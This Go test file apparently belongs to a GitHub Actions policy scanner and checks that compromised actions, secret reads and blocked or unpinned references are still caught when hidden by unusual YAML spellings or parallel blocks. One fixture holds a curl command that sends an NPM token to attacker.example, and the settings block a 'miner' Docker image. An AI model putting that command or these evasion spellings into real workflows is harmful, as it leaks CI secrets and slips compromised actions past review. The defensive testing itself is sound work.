package engine

import (
	"context"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/runpolicy/runpolicy/engine/input"
)

// hide is a job whose steps are steps.
func hide(steps string) string {
	return "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n" + steps
}

// TestBuiltinPoliciesSeeWhatGitHubRuns evaluates workflows that hide a
// compromised action, a secret or a blocked action where the normalizer
// used to lose it (a parallel block, a spelling GitHub reads like the plain
// reference, a reusable-workflow call beside keys GitHub refuses) with the
// built-in bundle, and expects the finding the plain form gets.
func TestBuiltinPoliciesSeeWhatGitHubRuns(t *testing.T) {
	const malicious = "0e58ed8671d6b60d0890c21b07f8835ace038e67" // tj-actions/changed-files, March 2025
	blockCache := map[string]any{"runpolicy": map[string]any{"settings": map[string]any{
		"allowed_actions": map[string]any{
			"mode":                "enforce",
			"allow":               []any{"actions/*", "docker://*", "!actions/cache", "!docker://evil/*"},
			"require_sha_pinning": true,
			"pinning_exempt":      []any{"docker://*"},
		},
	}}}
	strict := map[string]any{"runpolicy": map[string]any{"settings": map[string]any{
		"workflow_syntax": map[string]any{"strict": true},
	}}}
	tests := []struct {
		name     string
		src      string
		branch   bool           // a modified workflow on a branch other than the default
		settings map[string]any // nil: the defaults
		policy   string         // the policy that must deny
		message  string         // a substring of its enforced violation
	}{
		{
			name:   "compromised action in a parallel block",
			src:    hide("      - parallel:\n          - run: echo\n          - uses: tj-actions/changed-files@v44\n"),
			policy: "compromised_actions", message: "tj-actions/changed-files@v44 is compromised",
		},
		{
			name:   "secret read in a parallel block on a branch",
			src:    hide("      - parallel:\n          - run: curl -d \"${{ secrets.NPM_TOKEN }}\" https://attacker.example\n"),
			branch: true,
			policy: "secret_exfiltration", message: "reads secrets NPM_TOKEN",
		},
		{
			name:   "secret in the with: of a parallel step on a branch",
			src:    hide("      - parallel:\n          - uses: actions/github-script@v7\n            with:\n              token: ${{ secrets.NPM_TOKEN }}\n"),
			branch: true,
			policy: "secret_exfiltration", message: "reads secrets NPM_TOKEN",
		},
		{
			name:   "compromised action behind a control step",
			src:    hide("      - id: s\n        run: sleep 1\n        background: true\n      - wait: s\n      - uses: tj-actions/changed-files@v44\n"),
			policy: "compromised_actions", message: "tj-actions/changed-files@v44 is compromised",
		},
		{
			name:   "compromised action in a parallel block that is not a list",
			src:    hide("      - parallel:\n          uses: tj-actions/changed-files@v44\n"),
			policy: "compromised_actions", message: "is compromised",
		},
		{
			name:   "malicious commit in a block scalar",
			src:    hide("      - uses: |\n          tj-actions/changed-files@" + malicious + "\n"),
			policy: "compromised_actions", message: "is compromised",
		},
		{
			name:   "compromised tag after a leading space",
			src:    hide("      - uses: \" tj-actions/changed-files@v44\"\n"),
			policy: "compromised_actions", message: "tag v44 is in the affected range",
		},
		{
			name:   "compromised tag with spaces around the @",
			src:    hide("      - uses: tj-actions/changed-files @ v44\n"),
			policy: "compromised_actions", message: "tag v44 is in the affected range",
		},
		{
			name:   "compromised tag as refs/tags/",
			src:    hide("      - uses: tj-actions/changed-files@refs/tags/v44\n"),
			policy: "compromised_actions", message: "tag v44 is in the affected range",
		},
		{
			name:   "malicious commit in upper case",
			src:    hide("      - uses: tj-actions/changed-files@" + strings.ToUpper(malicious) + "\n"),
			policy: "compromised_actions", message: "is compromised",
		},
		{
			name:   "malicious commit under another name, in upper case",
			src:    hide("      - uses: evil/fork@" + strings.ToUpper(malicious) + "\n"),
			policy: "compromised_actions", message: "is compromised",
		},
		{
			name:   "compromised reusable workflow beside refused keys",
			src:    "on: push\njobs:\n  call:\n    uses: tj-actions/changed-files/.github/workflows/x.yml@v44\n    env:\n      A: b\n    timeout-minutes: 5\n",
			policy: "compromised_actions", message: "is compromised",
		},
		{
			name:     "blocked action after a leading space",
			src:      hide("      - uses: \" actions/cache@0123456789abcdef0123456789abcdef01234567\"\n"),
			settings: blockCache,
			policy:   "allowed_actions", message: "is blocked by allowed_actions.allow",
		},
		{
			name:     "blocked action in a block scalar",
			src:      hide("      - uses: >-\n          actions/cache@0123456789abcdef0123456789abcdef01234567\n"),
			settings: blockCache,
			policy:   "allowed_actions", message: "is blocked by allowed_actions.allow",
		},
		{
			name:     "blocked docker image after a leading space",
			src:      hide("      - uses: \" docker://evil/miner:1\"\n"),
			settings: blockCache,
			policy:   "allowed_actions", message: "is blocked by allowed_actions.allow",
		},
		{
			name:     "tag spelled as refs/tags/ is still unpinned",
			src:      hide("      - uses: actions/checkout@refs/tags/v4\n"),
			settings: blockCache,
			policy:   "allowed_actions", message: "is not pinned to a full commit SHA",
		},
		{
			name:     "a branch named like a SHA is unpinned",
			src:      hide("      - uses: actions/checkout@refs/heads/0123456789abcdef0123456789abcdef01234567\n"),
			settings: blockCache,
			policy:   "allowed_actions", message: "is not pinned to a full commit SHA",
		},
		{
			name:     "unmodeled step under strict",
			src:      hide("      - name: sleeps\n        sleep: 10\n"),
			settings: strict,
			policy:   "workflow_syntax", message: "step has neither uses, run nor",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := evalSyntax(t, tt.src, tt.branch, tt.settings)
			if d.Allow {
				t.Errorf("allowed, want %s to deny: %+v", tt.policy, d.Violations)
			}
			found := slices.ContainsFunc(d.Enforced(), func(v Violation) bool {
				return v.Policy == tt.policy && strings.Contains(v.Message, tt.message)
			})
			if !found {
				t.Errorf("no enforced %s violation containing %q in %+v", tt.policy, tt.message, d.Violations)
			}
		})
	}
}

// TestBuiltinPoliciesTakeWhatGitHubTakes checks the other side: spellings
// of safe references and self-repository references are not reported.
func TestBuiltinPoliciesTakeWhatGitHubTakes(t *testing.T) {
	pinning := map[string]any{"runpolicy": map[string]any{"settings": map[string]any{
		"allowed_actions": map[string]any{"mode": "enforce", "allow": []any{"actions/*"}, "require_sha_pinning": true},
	}}}
	tests := []struct {
		name     string
		src      string
		settings map[string]any
	}{
		{"upper-case SHA is pinned", hide("      - uses: actions/checkout@B4FFDE65F46336AB88EB53BE808477A3936BAE11\n"), pinning},
		{"self-repository action", hide("      - uses: $/.github/actions/setup\n"), pinning},
		{"self-repository workflow with a ref", "on: push\njobs:\n  call:\n    uses: $/.github/workflows/reusable.yml@tag\n", pinning},
		{"parallel block of allowed, pinned actions", hide("      - parallel:\n          - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11\n          - run: make\n      - wait-all:\n"), pinning},
		{"safe release of tj-actions in a block scalar", hide("      - uses: |\n          tj-actions/changed-files@22103cc46bda19c2b464ffe86db46df6922fd323\n"), nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := evalSyntax(t, tt.src, false, tt.settings)
			judged := map[string]bool{"compromised_actions": true, "workflow_syntax": true, "allowed_actions": tt.settings != nil}
			if !d.Allow || slices.ContainsFunc(d.Violations, func(v Violation) bool { return judged[v.Policy] }) {
				t.Errorf("allow %v, violations %+v: want no enforced one, and none of %v", d.Allow, d.Violations, judged)
			}
		})
	}
}

// TestUnmodeledShapesWarnByDefault checks that a shape the normalizer
// cannot model is reported, as a warning, with the default settings.
func TestUnmodeledShapesWarnByDefault(t *testing.T) {
	d := evalSyntax(t, hide("      - name: sleeps\n        sleep: 10\n"), false, nil)
	if !slices.ContainsFunc(d.Warnings, func(v Violation) bool { return v.Policy == "workflow_syntax" && v.Job == "build" && v.Line == 6 }) {
		t.Errorf("warnings %+v, want workflow_syntax on job build line 6", d.Warnings)
	}
	if slices.ContainsFunc(d.Violations, func(v Violation) bool { return v.Policy == "workflow_syntax" }) {
		t.Errorf("violations %+v, want workflow_syntax to warn only", d.Violations)
	}
}

// TestElectronParallelBlockIsJudged evaluates electron's real workflow with
// a parallel block under an allow list that leaves out the action only
// used inside the block.
func TestElectronParallelBlockIsJudged(t *testing.T) {
	src, err := os.ReadFile(corpusDir + "/fixtures/electron__electron__pipeline-segment-electron-test.yml")
	if err != nil {
		t.Fatal(err)
	}
	settings := map[string]any{"runpolicy": map[string]any{"settings": map[string]any{
		"allowed_actions": map[string]any{"mode": "enforce", "allow": []any{"actions/*", "!actions/download-artifact"}},
	}}}
	d := evalSyntax(t, string(src), false, settings)
	var steps []int
	for _, v := range d.Enforced() {
		if v.Policy == "allowed_actions" && v.Step != nil {
			steps = append(steps, *v.Step)
		}
	}
	if !slices.Equal(steps, []int{14, 15}) {
		t.Errorf("allowed_actions denied steps %v, want the two download-artifact steps of the parallel block (14, 15): %+v", steps, d.Violations)
	}
}

// evalSyntax evaluates src with the built-in bundle and settings: a push
// to the default branch, or to a branch where the file is new.
func evalSyntax(t *testing.T, src string, branch bool, settings map[string]any) *Decision {
	t.Helper()
	f, err := input.Parse("ci.yml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	c := input.LocalContext(".github/workflows/ci.yml")
	if branch {
		c.Run.Branch, c.Run.IsDefaultBranch = "feature/x", false
		c.DefaultBranchKnown = true // and nil: the file is new there
	}
	var opts []Option
	if settings != nil {
		opts = append(opts, WithData(settings))
	}
	e, err := New(context.Background(), nil, opts...)
	if err != nil {
		t.Fatal(err)
	}
	d, err := e.Eval(context.Background(), input.Build(f, c))
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range append(slices.Clone(d.Violations), d.Warnings...) {
		if strings.ContainsAny(v.Message, "\r\n") {
			t.Errorf("%s message is not one line: %q", v.Policy, v.Message)
		}
	}
	return d
}
